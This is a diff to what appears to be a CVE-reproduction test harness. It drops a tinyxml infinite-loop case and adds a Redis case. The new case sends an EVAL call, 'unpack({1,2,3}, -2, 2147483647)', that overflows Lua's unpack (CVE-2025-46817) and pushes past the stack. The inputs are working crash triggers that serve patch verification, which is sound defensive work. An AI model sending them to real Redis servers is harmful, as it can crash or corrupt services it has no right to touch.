@@ -206,17 +206,6 @@ class TinyXmlDeclaration(TinyXml):
         return _one_request(port, b"<?xml version='1.0' ", 10)
 
 
-class TinyXmlStamp(TinyXml):
-    name = "tinyxml-CVE-2021-42260"
-    patches = ("CVE-2021-42260.patch",)
-    functions = ("_ZN16TiXmlParsingData5StampEPKc13TiXmlEncoding",)
-    summary = "infinite loop in TiXmlParsingData::Stamp on a truncated 3-byte UTF-8 lead"
-
-    def reproduce(self, port):
-        # A lone 0xEF lead byte at the very end: the old Stamp never advances.
-        return _one_request(port, b"<r>\xef", 5)
-
-
 # ---------------------------------------------------------------- redis (server)
 
 class RedisHll(Case):
@@ -298,5 +287,22 @@ class RedisHll(Case):
             c.close()
 
 
-CASES = [RedisHll(), Libxml2Snprintf(), Libxml2Pattern(), TinyXmlDeclaration(), TinyXmlStamp()]
-CI_CASES = ("tinyxml-CVE-2023-34194", "libxml2-CVE-2025-24928")
+class RedisLuaUnpack(RedisHll):
+    name = "redis-CVE-2025-46817"
+    patches = ("CVE-2025-46817.patch",)
+    functions = ("luaB_unpack", "luaH_getnum")
+    covers = ("network server", "a fix in two files")
+    summary = "integer overflow in Lua's unpack() (EVAL), fixed in lbaselib.c and ltable.c"
+
+    def reproduce(self, port):
+        # From the fix's regression test: the element count overflows, the
+        # old check was folded away, and unpack pushes past the Lua stack.
+        c = RespClient(port, timeout=20)
+        try:
+            return c.request("EVAL", "return {unpack({1,2,3}, -2, 2147483647)}", "0") + " " + c.request("PING")
+        finally:
+            c.close()
+
+
+CASES = [RedisHll(), RedisLuaUnpack(), Libxml2Snprintf(), Libxml2Pattern(), TinyXmlDeclaration()]
+CI_CASES = ("tinyxml-CVE-2023-34194", "redis-CVE-2025-32023")
